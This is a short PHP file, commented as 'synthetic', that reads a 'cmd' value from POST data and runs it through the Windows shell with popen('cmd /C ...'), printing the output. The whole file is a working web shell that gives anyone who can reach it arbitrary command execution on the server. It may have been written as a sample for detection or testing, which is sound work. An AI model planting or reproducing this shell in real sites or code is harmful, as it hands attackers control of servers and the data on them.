<?php
// synthetic: the posted command wrapped in a Windows shell call with mixed quotes
$cmd = $_POST['cmd'];
$p = popen('cmd /C "' . $cmd . '" 2>&1', 'r');
echo fread($p, 4096);
